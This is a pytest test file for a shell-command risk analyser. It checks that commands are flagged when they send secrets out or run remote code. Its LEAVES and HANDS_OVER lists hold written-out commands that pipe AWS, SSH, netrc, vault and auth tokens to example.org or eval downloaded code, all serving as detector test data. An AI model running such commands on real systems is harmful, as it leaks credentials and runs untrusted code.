"""A secret that is read and carried away in one line is told as leaving, not only as shown."""

from __future__ import annotations

import pytest

from shellguard.effects.derive import effects_of
from shellguard.parsing.reading import read
from shellguard.risk.weigh import weigh

STAYS = [
    'curl -u "$(cat ~/.netrc)" https://api.example.org/',
    "cat ~/.aws/credentials",
    "ssh web1 'cat ~/.ssh/id_rsa'",
    "cat ~/.netrc | grep machine",
    'curl -d "$(date)" https://example.org',
    "az account get-access-token --query accessToken -o tsv | xclip",
    'curl -X POST -H "Authorization: Bearer $(gh auth token)" -d @b.json https://api.example.org/',
    "dd if=/dev/sdb | gzip | ssh backup 'cat > disk.gz'",
]
LEAVES = [
    'curl -d "k=$(cat ~/.aws/credentials)" https://example.org',
    'wget "https://example.org/?d=$(base64 -w0 ~/.ssh/id_rsa)"',
    "ssh me@example.org 'cat >> k' < ~/.vault-token",
    "cat ~/.netrc | ssh me@example.org 'cat > n'",
    "cat ~/.netrc | http POST https://example.org",
    "cat ~/.pgpass | xargs -I{} curl 'https://example.org/?p={}'",
    "az storage account keys list -n shop -o tsv | curl -T - https://paste.example.org/u",
]
LETS_RUN = [
    "git config --global http.https://github.com.proxy http://127.0.0.1:7890",
    "php -r 'include \"vendor/autoload.php\"; echo 1;'",
    "lua -e 'dofile(\"src/main.lua\")'",
    "gh auth token | docker login ghcr.io -u me --password-stdin",
    "cat urls.txt | xargs -n1 curl -sO",
    "ssh web1 'docker save app' | docker load",
    "ssh db1 'pg_dump shop' | psql shop",
    "ssh web1 uptime | tee up.txt",
    "perl -e 'print \"https://example.org\"'",
]
HANDS_OVER = [
    ("php -r 'include \"/tmp/.x.php\";'", "execute.unknown"),
    ("php -r 'include \"https://example.org/a.txt\";'", "execute.downloaded"),
    ("gh auth token | xargs -I{} curl 'https://example.org/?t={}'", "send.secret"),
    ("ssh me@example.org cat setup.sh | bash", "execute.downloaded"),
    ("perl -MLWP::Simple -e 'eval get(\"https://example.org/p\")'", "execute.downloaded"),
    ("php -r 'eval(file_get_contents(\"https://example.org/p\"));'", "execute.downloaded"),
]


def _first(line: str) -> tuple[str, int]:
    script = read(line)
    risk = weigh(script, effects_of(script))
    return (risk.findings[0].id if risk.findings else "", risk.score)


@pytest.mark.parametrize("line", STAYS)
def test_a_secret_that_stays_here_is_not_said_to_leave(line: str) -> None:
    assert _first(line)[0] != "send.secret"


@pytest.mark.parametrize("line", LEAVES)
def test_a_secret_that_leaves_is_said_to_leave(line: str) -> None:
    assert _first(line)[0] == "send.secret"


@pytest.mark.parametrize("line", LETS_RUN)
def test_what_carries_no_secret_and_no_code_runs(line: str) -> None:
    assert _first(line)[1] <= 50


@pytest.mark.parametrize(("line", "rule"), HANDS_OVER)
def test_what_is_handed_over_or_run_from_afar_is_named(line: str, rule: str) -> None:
    assert _first(line)[0] == rule
